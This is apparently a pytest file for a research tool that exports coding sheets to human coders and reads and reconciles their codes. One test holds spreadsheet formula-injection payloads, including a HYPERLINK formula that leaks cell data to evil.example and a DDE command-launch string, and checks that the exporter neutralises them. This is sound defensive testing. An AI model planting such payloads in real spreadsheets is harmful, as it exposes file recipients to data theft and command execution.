"""Tests of cxresearch.coding.sheets: coding sheets out to coders, their codes back, coders reconciled.

Every test writes real files to ``tmp_path`` and reads them back the way a
coder's tools would leave them: CSV cells rewritten with the ``csv`` module
(as a text editor or Excel saves them), Excel cells typed with openpyxl
(numbers, booleans, text). Expected values come from outside the code under
test: the bundled human coding (``data/sample/human_coding.parquet``, written
by the sample generator) and tables computed by hand, marked as such.
"""

from __future__ import annotations

import csv
import doctest
import warnings

import numpy as np
import pandas as pd
import pytest
from openpyxl import load_workbook

from cxresearch import config
from cxresearch.coding import sheets
from cxresearch.coding.codebook import load_codebook
from cxresearch.coding.reliability import agreement_by_code, cohen_kappa
from cxresearch.coding.sheets import (DISAGREEMENT_COLUMNS, RECONCILE_COLUMNS, SHEET_NAMES, disagreements,
                                      export_coding_sheet, read_coding_sheets, reconcile)
from cxresearch.exceptions import (CXResearchWarning, DataFileError, DataValidationError, ParameterError,
                                   SchemaError)

SUFFIXES = [".csv", ".xlsx"]
CODES = ["wait_time", "staff_attitude", "price_value", "delivery"]
# The coding a coder is meant to give, by hand: documents x CODES.
MATRIX = {
    "d1": [1, 0, 0, 1],
    "d2": [0, 1, 0, 0],
    "d3": [1, 1, 1, 1],
    "d4": [0, 0, 0, 0],
    "d5": [0, 0, 1, 0],
}
# The spellings a coder may use, cycled through; the first "not applied" is never blank,
# so a document none of the codes fits (d4) still counts as coded.
CSV_SPELLINGS = {1: ["1", "x", "X", "yes", "TRUE", " Yes "], 0: ["0", "", "no", "FALSE", "No", "false"]}
XLSX_SPELLINGS = {1: [1, "x", True, "yes", "TRUE", 1.0], 0: [0, None, False, "no", "FALSE", 0.0]}


@pytest.fixture(scope="module")
def codebook():
    return load_codebook()


@pytest.fixture
def docs():
    return pd.DataFrame({
        "doc_id": list(MATRIX),
        "text": ["Waited 40 minutes for a parcel that never came", "The cashier was rude",
                 "Slow, rude, overpriced and late", "Nothing to add", "Too expensive for what it is"],
        "nps": [2, 4, 0, 8, 5],
        "language": ["en"] * 5,
    })


def fill(path, decisions):
    """Play the coder: write ``{doc_id: {code: value}}`` into the sheet and save it."""
    def wanted(cell):
        cell = "" if cell is None else str(cell)
        return decisions.get(cell) or decisions.get(cell[1:] if cell.startswith("'") else cell) or {}

    if path.suffix == ".csv":
        with open(path, encoding="utf-8-sig", newline="") as handle:
            rows = list(csv.reader(handle))
        header = rows[0]
        for row in rows[1:]:
            for code, value in wanted(row[0]).items():
                row[header.index(code)] = value
        with open(path, "w", encoding="utf-8-sig", newline="") as handle:
            csv.writer(handle).writerows(rows)
    else:
        book = load_workbook(path)
        sheet = book["coding"]
        header = [cell.value for cell in sheet[1]]
        for r in range(2, sheet.max_row + 1):
            for code, value in wanted(sheet.cell(r, 1).value).items():
                sheet.cell(r, header.index(code) + 1).value = value
        book.save(path)


def spelled(matrix, codes, spellings):
    """The matrix as a coder might type it, cycling through the spellings of 1 and 0."""
    seen = {0: 0, 1: 0}
    out = {}
    for doc, row in matrix.items():
        out[doc] = {}
        for code, value in zip(codes, row):
            out[doc][code] = spellings[value][seen[value] % len(spellings[value])]
            seen[value] += 1
    return out


def as_matrix(coding):
    wide = coding.pivot(index="doc_id", columns="code", values="applied")
    return {doc: [int(wide.at[doc, code]) for code in CODES] for doc in wide.index}


# --------------------------------------------------------------------------
# round trip
# --------------------------------------------------------------------------

@pytest.mark.parametrize("suffix", SUFFIXES)
def test_round_trip_reproduces_the_applied_matrix(tmp_path, docs, codebook, suffix):
    path = export_coding_sheet(docs, codebook, tmp_path / f"{{coder}}{suffix}", coder="ann", codes=CODES,
                               extra=["nps", "language"])
    assert path == tmp_path / f"ann{suffix}"
    fill(path, spelled(MATRIX, CODES, CSV_SPELLINGS if suffix == ".csv" else XLSX_SPELLINGS))
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # every document is coded: no warning
        coding = read_coding_sheets(path, codebook, codes=CODES)
    assert list(coding.columns) == ["doc_id", "coder", "code", "applied"]
    assert coding["applied"].dtype == np.int8
    assert set(coding["coder"]) == {"ann"}
    assert as_matrix(coding) == MATRIX
    assert coding["code"].tolist()[:4] == CODES  # sheet order, then code order


def test_sorted_rows_read_the_same(tmp_path, docs, codebook):
    path = export_coding_sheet(docs, codebook, tmp_path / "ann.csv", codes=CODES)
    fill(path, spelled(MATRIX, CODES, CSV_SPELLINGS))
    table = pd.read_csv(path, encoding="utf-8-sig", dtype=str, keep_default_na=False)
    table.sort_values("text").to_csv(path, index=False, encoding="utf-8-sig")  # the coder sorted the rows
    assert as_matrix(read_coding_sheets(path, codes=CODES)) == MATRIX


def test_bundled_sample_round_trips_exactly_and_keeps_its_reliability(tmp_path, codebook):
    coding = pd.read_parquet(config.SAMPLE_DIR / "human_coding.parquet")
    verbatims = pd.read_parquet(config.SAMPLE_DIR / "verbatims.parquet",
                                columns=["doc_id", "text", "language", "date", "rating"])
    order, codes = list(coding["doc_id"].unique()), list(coding["code"].unique())
    docs = verbatims.set_index("doc_id").loc[order].reset_index()
    assert len(docs) == 600 and coding["coder"].nunique() == 3
    assert set(codes) <= {code.id for code in codebook.leaves}  # a subset of the codable codes
    for suffix in SUFFIXES:
        paths = []
        for coder, own in coding.groupby("coder", sort=False):
            path = export_coding_sheet(docs, codebook, tmp_path / f"{{coder}}{suffix}", coder=coder, codes=codes,
                                       extra=["language", "date", "rating"])  # text, dates, numbers with NaN
            wide = own.pivot(index="doc_id", columns="code", values="applied")
            fill(path, {doc: {code: int(wide.at[doc, code]) for code in codes} for doc in order})
            paths.append(path)
        back = read_coding_sheets(paths, codebook, codes=codes)
        pd.testing.assert_frame_equal(back, coding)  # same rows, order, values and dtypes

        pd.testing.assert_frame_equal(agreement_by_code(back, n_boot=200, random_state=7),
                                      agreement_by_code(coding, n_boot=200, random_state=7))
        for code in codes:
            kappas = []
            for table in (back, coding):
                wide = table[table["code"] == code].pivot(index="doc_id", columns="coder", values="applied")
                kappas.append(cohen_kappa(wide["coder_a"], wide["coder_b"], n_boot=200, random_state=7))
            pd.testing.assert_frame_equal(*kappas)


# --------------------------------------------------------------------------
# what reaches the spreadsheet
# --------------------------------------------------------------------------

INJECTIONS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click for a refund")', "+1 555 0100", "-",
              "@SUM(A1:A9)", "=1+1"]


@pytest.mark.parametrize("suffix", SUFFIXES)
def test_formula_texts_are_neutralised(tmp_path, codebook, suffix):
    docs = pd.DataFrame({"doc_id": ["-7", "d2", "d3", "d4", "d5"], "text": INJECTIONS,
                         "channel": ["=cmd|' /C calc'!A0", "web", "app", "store", "@phone"]})
    path = export_coding_sheet(docs, codebook, tmp_path / f"ann{suffix}", codes=CODES, extra=["channel"])
    if suffix == ".csv":
        with open(path, encoding="utf-8-sig", newline="") as handle:
            rows = list(csv.reader(handle))[1:]
        cells = {"doc_id": [r[0] for r in rows], "channel": [r[1] for r in rows], "text": [r[2] for r in rows]}
    else:
        book = load_workbook(path)
        for sheet in book.worksheets:  # not a single formula anywhere in the workbook
            assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row), sheet.title
        coding = book["coding"]
        cells = {name: [coding.cell(r, j).value for r in range(2, 7)]
                 for j, name in ((1, "doc_id"), (2, "channel"), (3, "text"))}
        assert all(coding.cell(r, 3).data_type == "s" for r in range(2, 7))
    assert cells["text"] == ["'" + text for text in INJECTIONS]
    assert cells["doc_id"] == ["'-7", "d2", "d3", "d4", "d5"]
    assert cells["channel"] == ["'=cmd|' /C calc'!A0", "web", "app", "store", "'@phone"]

    fill(path, {doc: {"wait_time": 1} for doc in docs["doc_id"]})
    back = read_coding_sheets(path, codes=CODES)
    assert list(back["doc_id"].unique()) == ["-7", "d2", "d3", "d4", "d5"]  # the neutralised id reads as it was


def test_csv_keeps_accents_and_chinese_for_excel(tmp_path, codebook):
    texts = ["Très déçu : la caisse était fermée", "排队太久了，店员态度很差", "Zażółć gęślą jaźń",
             "Очередь на кассе", "¿Dónde está el envío?"]
    docs = pd.DataFrame({"doc_id": ["café-1", "订单-2", "d3", "d4", "d5"], "text": texts})
    path = export_coding_sheet(docs, codebook, tmp_path / "ann.csv", codes=CODES)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # the byte-order mark that makes Excel read UTF-8
    table = pd.read_csv(path, encoding="utf-8-sig", dtype=str)
    assert table["text"].tolist() == texts
    fill(path, {doc: {"price_value": "x"} for doc in docs["doc_id"]})
    back = read_coding_sheets(path, codes=CODES)
    assert list(back["doc_id"].unique()) == ["café-1", "订单-2", "d3", "d4", "d5"]


def test_csv_saved_by_a_european_excel_reads(tmp_path):
    # Excel in French or Polish locales saves "CSV" with semicolons, in Windows-1252, without a BOM.
    content = "doc_id;text;wait_time;price_value;note\r\nd1;Très cher;0;x;\r\nd2;Déjà vu;1;;trop long\r\n"
    path = tmp_path / "zoé.csv"
    path.write_bytes(content.encode("cp1252"))
    back = read_coding_sheets(path, codes=["wait_time", "price_value"])
    assert back["applied"].tolist() == [0, 1, 1, 0]
    assert set(back["coder"]) == {"zoé"}


def test_excel_sheet_layout(tmp_path, docs, codebook):
    path = export_coding_sheet(docs, codebook, tmp_path / "ann.xlsx", coder="ann", codes=CODES, extra=["nps"])
    book = load_workbook(path)
    assert book.sheetnames == list(SHEET_NAMES)
    coding = book["coding"]
    header = [cell.value for cell in coding[1]]
    assert header == ["doc_id", "nps", "text", *CODES, "note"]
    assert all(cell.font.bold for cell in coding[1])
    assert coding.freeze_panes == "D2"  # header row, id, context and text stay in view
    assert coding.column_dimensions["C"].width == 70
    assert all(coding.cell(r, j).value is None for r in range(2, 7) for j in range(4, 9))  # blank for the coder
    assert [coding.cell(r, 2).value for r in range(2, 7)] == [2, 4, 0, 8, 5]  # numbers stay numbers
    assert "queue" in coding.cell(1, 4).comment.text.lower()  # the definition, on hover
    listed = pd.DataFrame(book["codebook"].values)
    assert listed.iloc[0].tolist() == ["code", "label", "definition", "parent"]
    by_id = {code.id: code for code in codebook}
    assert listed.iloc[1:, 0].tolist() == CODES
    assert listed.iloc[1:, 1].tolist() == [by_id[c].label for c in CODES]
    assert listed.iloc[1:, 2].tolist() == [by_id[c].definition for c in CODES]
    assert any("Coder: ann" == row[0] for row in book["instructions"].values)


def test_excel_cells_hold_only_what_excel_can(tmp_path, codebook):
    docs = pd.DataFrame({"doc_id": ["d1", "d2"], "text": ["bell\x07 and form feed\x0c gone, tab\tkept", "y" * 40_000],
                         "visited": pd.to_datetime(["2024-03-01 10:00", None]).tz_localize("Europe/Warsaw"),
                         "turn": pd.array([3, None], dtype="Int64")})
    with pytest.warns(CXResearchWarning, match="1 texts are longer than the 32,767 characters"):
        path = export_coding_sheet(docs, codebook, tmp_path / "ann.xlsx", codes=CODES, extra=["visited", "turn"])
    coding = load_workbook(path)["coding"]
    assert coding["D2"].value == "bell and form feed gone, tab\tkept"
    assert len(coding["D3"].value) == 32_767
    assert coding["B2"].value == pd.Timestamp("2024-03-01 10:00").to_pydatetime()  # wall-clock time, no zone
    assert (coding["B3"].value, coding["C2"].value, coding["C3"].value) == (None, 3, None)


@pytest.mark.parametrize("suffix", SUFFIXES)
def test_suggestions_are_shown_not_prefilled_and_not_read_back(tmp_path, docs, codebook, suffix):
    suggestions = pd.DataFrame({"doc_id": ["d1", "d1", "d1", "d3", "d9"],
                                "code": ["price_value", "wait_time", "delivery", "staff_attitude", "delivery"],
                                "applied": [1, 1, 0, 1, 1], "score": [0.9, 0.8, 0.2, 0.7, 0.9]})
    path = export_coding_sheet(docs, codebook, tmp_path / f"ann{suffix}", codes=CODES, suggestions=suggestions)
    table = (pd.read_csv(path, encoding="utf-8-sig", dtype=str) if suffix == ".csv"
             else pd.read_excel(path, sheet_name="coding", dtype=str))
    assert list(table.columns) == ["doc_id", "text", "suggested_codes", *CODES, "note"]
    # codebook order (wait_time before price_value), applied == 0 left out, unknown document ignored
    assert table["suggested_codes"].fillna("").tolist() == ["wait_time; price_value", "", "staff_attitude", "", ""]
    assert table[CODES].isna().all().all()
    fill(path, spelled(MATRIX, CODES, CSV_SPELLINGS if suffix == ".csv" else XLSX_SPELLINGS))
    assert as_matrix(read_coding_sheets(path, codebook, codes=CODES)) == MATRIX


def test_sample_is_drawn_reproducibly(tmp_path, codebook):
    docs = pd.DataFrame({"doc_id": [f"d{i:02d}" for i in range(50)], "text": ["ok"] * 50})

    def drawn(name, seed):
        path = export_coding_sheet(docs, codebook, tmp_path / name, codes=CODES, sample=10, seed=seed)
        return pd.read_csv(path, encoding="utf-8-sig", dtype=str)["doc_id"].tolist()

    first, again, other = drawn("a.csv", 3), drawn("b.csv", 3), drawn("c.csv", 4)
    assert first == again and len(first) == 10 and first == sorted(first)  # kept in the order of docs
    assert first != other
    with pytest.warns(CXResearchWarning, match="without a seed"):
        export_coding_sheet(docs, codebook, tmp_path / "d.csv", codes=CODES, sample=10)
    with pytest.raises(ParameterError, match="cannot draw 60 documents from 50"):
        export_coding_sheet(docs, codebook, tmp_path / "e.csv", codes=CODES, sample=60, seed=1)


# --------------------------------------------------------------------------
# what a coder gets wrong
# --------------------------------------------------------------------------

@pytest.mark.parametrize("suffix", SUFFIXES)
def test_an_unreadable_cell_names_file_code_document_and_value(tmp_path, docs, codebook, suffix):
    path = export_coding_sheet(docs, codebook, tmp_path / f"ann{suffix}", codes=CODES)
    decisions = spelled(MATRIX, CODES, CSV_SPELLINGS if suffix == ".csv" else XLSX_SPELLINGS)
    decisions["d3"]["wait_time"] = "maybe"
    decisions["d5"]["delivery"] = 2
    fill(path, decisions)
    with pytest.raises(DataValidationError) as caught:
        read_coding_sheets(path, codebook, codes=CODES)
    err, message = caught.value, str(caught.value)
    assert "\n" not in message
    for part in (str(path), "'wait_time'", "'d3'", "'maybe'", "spreadsheet row 4", "1 more", "Fix:"):
        assert part in message, part
    assert (err.file, err.column, err.row, err.value) == (str(path), "wait_time", "d3", "maybe")


def test_rows_left_blank_are_not_coded_yet(tmp_path, docs, codebook):
    path = export_coding_sheet(docs, codebook, tmp_path / "ann.xlsx", codes=CODES)
    fill(path, {doc: decisions for doc, decisions in spelled(MATRIX, CODES, XLSX_SPELLINGS).items()
                if doc in ("d1", "d4")})
    with pytest.warns(CXResearchWarning, match="3 of 5 documents have no code cell filled in"):
        back = read_coding_sheets(path, codes=CODES)
    assert as_matrix(back) == {"d1": MATRIX["d1"], "d4": MATRIX["d4"]}  # d4: all zero, yet coded


def test_code_columns_unknown_to_the_codebook_are_refused_with_a_did_you_mean(tmp_path, docs, codebook):
    path = export_coding_sheet(docs, codebook, tmp_path / "ann.csv", codes=CODES)
    table = pd.read_csv(path, encoding="utf-8-sig", dtype=str)
    table.rename(columns={"wait_time": "wait_tme"}).assign(my_remarks=None).to_csv(
        path, index=False, encoding="utf-8-sig")
    with pytest.raises(SchemaError) as caught:
        read_coding_sheets(path, codebook, codes=CODES)
    message = str(caught.value)
    assert "\n" not in message
    assert "'wait_tme' (did you mean 'wait_time'?)" in message and "'my_remarks'" in message
    assert str(path) in message

    table.to_csv(path, index=False, encoding="utf-8-sig")
    with pytest.raises(SchemaError, match=rf"19 of the codable codes of codebook '{codebook.name}' have no column"):
        read_coding_sheets(path, codebook)  # the sheet holds 4 of the 23 leaves: say which with codes=
    with pytest.raises(SchemaError, match=r"of the codes asked for .* have no column in the sheet: 'product_range'"):
        read_coding_sheets(path, codebook, codes=[*CODES, "product_range"])
    with pytest.raises(ParameterError, match=r"did you mean 'wait_time'"):
        read_coding_sheets(path, codebook, codes=["wait_tim"])


def test_coder_names_come_from_file_names_or_the_argument(tmp_path, docs, codebook):
    folder = tmp_path / "sheets"
    for name, suffix in (("ann", ".csv"), ("bob", ".xlsx")):
        path = export_coding_sheet(docs, codebook, folder / f"{name}{suffix}", codes=CODES)
        fill(path, spelled(MATRIX, CODES, CSV_SPELLINGS if suffix == ".csv" else XLSX_SPELLINGS))
    (folder / "~$bob.xlsx").write_bytes(b"lock file Excel leaves while the sheet is open")
    back = read_coding_sheets(folder, codebook, codes=CODES)
    assert back["coder"].unique().tolist() == ["ann", "bob"]
    renamed = read_coding_sheets([folder / "ann.csv", folder / "bob.xlsx"], coder=["A", "B"], codes=CODES)
    assert renamed["coder"].unique().tolist() == ["A", "B"]
    with pytest.raises(ParameterError, match="two sheets have the same coder"):
        read_coding_sheets([folder / "ann.csv", folder / "bob.xlsx"], coder=["A", "A"])
    with pytest.raises(ParameterError, match="1 coder names for 2 sheets"):
        read_coding_sheets([folder / "ann.csv", folder / "bob.xlsx"], coder=["A"])


def test_reading_refuses_what_it_cannot_read(tmp_path, docs, codebook):
    with pytest.raises(DataFileError, match="no such file"):
        read_coding_sheets(tmp_path / "nobody.xlsx")
    with pytest.raises(ParameterError, match="save it as .xlsx"):
        read_coding_sheets(tmp_path / "old.xls")
    (tmp_path / "broken.xlsx").write_text("not a workbook")
    with pytest.raises(DataFileError, match="cannot open as an Excel workbook"):
        read_coding_sheets(tmp_path / "broken.xlsx")
    path = export_coding_sheet(docs, codebook, tmp_path / "ann.csv", codes=CODES)
    with pytest.raises(SchemaError, match="no text column"):
        read_coding_sheets(path, text="verbatim")
    table = pd.read_csv(path, encoding="utf-8-sig", dtype=str)
    pd.concat([table, table.iloc[[1]]]).assign(wait_time="1").to_csv(path, index=False, encoding="utf-8-sig")
    with pytest.raises(DataValidationError, match="listed twice, on spreadsheet rows 3 and 7"):
        read_coding_sheets(path, codes=CODES)


def test_export_refuses_bad_input_in_one_line(tmp_path, docs, codebook):
    cases = [
        (DataValidationError, "1 document id appears more than once",
         dict(docs=pd.concat([docs, docs.iloc[[2]]]), path=tmp_path / "a.csv")),
        (ParameterError, "no such column in docs", dict(docs=docs, path=tmp_path / "a.csv", extra=["nsp"])),
        (ParameterError, "no such column in docs", dict(docs=docs, path=tmp_path / "a.csv", text="verbatim")),
        (ParameterError, "an .xlsx or .csv file", dict(docs=docs, path=tmp_path / "a.ods")),
        (ParameterError, "the path holds {coder} but no coder", dict(docs=docs, path=tmp_path / "{coder}.csv")),
        (ParameterError, "did you mean 'wait_time'", dict(docs=docs, path=tmp_path / "a.csv", codes=["wait_tme"])),
        (ParameterError, "expected a pandas DataFrame", dict(docs=docs.to_dict(), path=tmp_path / "a.csv")),
    ]
    for error, words, arguments in cases:
        with pytest.raises(error) as caught:
            export_coding_sheet(arguments.pop("docs"), codebook, arguments.pop("path"), **arguments)
        assert words in str(caught.value) and "\n" not in str(caught.value) and "Fix:" in str(caught.value)
    path = export_coding_sheet(docs, codebook, tmp_path / "ann.xlsx", codes=CODES)
    with pytest.raises(DataFileError, match="the file exists"):
        export_coding_sheet(docs, codebook, path, codes=CODES)
    assert export_coding_sheet(docs, codebook, path, codes=CODES, overwrite=True) == path


# --------------------------------------------------------------------------
# reconciling coders
# --------------------------------------------------------------------------

# Three coders, three documents, two codes; cy left d3 undecided (missing decisions).
THREE_CODERS = pd.DataFrame(
    [("d1", "ann", "wait_time", 1), ("d1", "bob", "wait_time", 1), ("d1", "cy", "wait_time", 0),
     ("d1", "ann", "price_value", 0), ("d1", "bob", "price_value", 0), ("d1", "cy", "price_value", 0),
     ("d2", "ann", "wait_time", 1), ("d2", "bob", "wait_time", 1), ("d2", "cy", "wait_time", 1),
     ("d2", "ann", "price_value", 1), ("d2", "bob", "price_value", 0), ("d2", "cy", "price_value", 0),
     ("d3", "ann", "wait_time", 1), ("d3", "bob", "wait_time", 0), ("d3", "cy", "wait_time", None),
     ("d3", "ann", "price_value", 0), ("d3", "bob", "price_value", 0), ("d3", "cy", "price_value", None)],
    columns=["doc_id", "coder", "code", "applied"])

# Hand computation from THREE_CODERS: n coders deciding, k applying; majority 2k > n (2k = n: tie,
# undecided), any k > 0, all k = n; disagreement 0 < k < n.
#                      doc    code          n  k  majority any all  disagreement tie
HAND_COMPUTATION = [("d1", "wait_time",   3, 2, 1,       1,  0,   True,        False),
                    ("d1", "price_value", 3, 0, 0,       0,  0,   False,       False),
                    ("d2", "wait_time",   3, 3, 1,       1,  1,   False,       False),
                    ("d2", "price_value", 3, 1, 0,       1,  0,   True,        False),
                    ("d3", "wait_time",   2, 1, None,    1,  0,   True,        True),
                    ("d3", "price_value", 2, 0, 0,       0,  0,   False,       False)]


@pytest.mark.parametrize("rule, position", [("majority", 4), ("any", 5), ("all", 6)])
def test_reconcile_matches_a_hand_computation(rule, position):
    expected = pd.DataFrame({
        "doc_id": [r[0] for r in HAND_COMPUTATION], "code": [r[1] for r in HAND_COMPUTATION],
        "n_coders": np.array([r[2] for r in HAND_COMPUTATION], dtype=np.int64),
        "n_applied": np.array([r[3] for r in HAND_COMPUTATION], dtype=np.int64),
        "agreed": pd.array([r[position] for r in HAND_COMPUTATION], dtype="Int8"),
        "disagreement": [r[7] for r in HAND_COMPUTATION],
        "tie": [r[8] for r in HAND_COMPUTATION],
        "rule": rule,
    })
    if rule == "majority":
        with pytest.warns(CXResearchWarning, match="1 document x code pairs are ties"):
            got = reconcile(THREE_CODERS, rule=rule)
    else:
        got = reconcile(THREE_CODERS, rule=rule)
    assert list(got.columns) == ["doc_id", *RECONCILE_COLUMNS]
    pd.testing.assert_frame_equal(got, expected, check_dtype=False)
    assert got["agreed"].dtype == "Int8"


def test_disagreements_say_who_said_what():
    texts = pd.DataFrame({"doc_id": ["d1", "d2", "d3"], "text": ["Long queue", "Cheap", "Queue ok"]})
    got = disagreements(THREE_CODERS, texts)
    # by hand from THREE_CODERS: the pairs with 0 < k < n
    expected = pd.DataFrame({"doc_id": ["d1", "d2", "d3"], "code": ["wait_time", "price_value", "wait_time"],
                             "n_coders": [3, 3, 2], "n_applied": [2, 1, 1],
                             "applied_by": ["ann; bob", "ann", "ann"], "not_applied_by": ["cy", "bob; cy", "bob"],
                             "text": ["Long queue", "Cheap", "Queue ok"]})
    assert list(got.columns) == ["doc_id", *DISAGREEMENT_COLUMNS, "text"]
    pd.testing.assert_frame_equal(got, expected, check_dtype=False)


def test_reconcile_refuses_bad_input_in_one_line():
    cases = [
        (ParameterError, "did you mean 'majority'", dict(rule="majorty")),
        (DataValidationError, "a decision must be 0 or 1", dict(coding=THREE_CODERS.assign(applied=2))),
        (DataValidationError, "the same document and code twice",
         dict(coding=pd.concat([THREE_CODERS, THREE_CODERS.iloc[[0]]]))),
        (ParameterError, "no such column in coding", dict(coder="rater")),
    ]
    for error, words, arguments in cases:
        with pytest.raises(error) as caught:
            reconcile(arguments.pop("coding", THREE_CODERS), **arguments)
        assert words in str(caught.value) and "\n" not in str(caught.value)


def test_reconcile_reads_what_read_coding_sheets_returns(tmp_path, docs, codebook):
    # Three coders who agree on everything but d3's price_value: the reconciled coding is the matrix.
    paths = []
    for coder in ("ann", "bob", "cy"):
        decisions = spelled(MATRIX, CODES, CSV_SPELLINGS)
        if coder == "cy":
            decisions["d3"]["price_value"] = "0"
        path = export_coding_sheet(docs, codebook, tmp_path / f"{coder}.csv", codes=CODES)
        fill(path, decisions)
        paths.append(path)
    agreed = reconcile(read_coding_sheets(paths, codebook, codes=CODES))
    assert as_matrix(agreed.rename(columns={"agreed": "applied"})) == MATRIX
    assert agreed.loc[agreed["disagreement"], ["doc_id", "code"]].values.tolist() == [["d3", "price_value"]]


def test_docstring_examples_run():
    result = doctest.testmod(sheets, optionflags=doctest.NORMALIZE_WHITESPACE)
    assert result.attempted > 0 and result.failed == 0
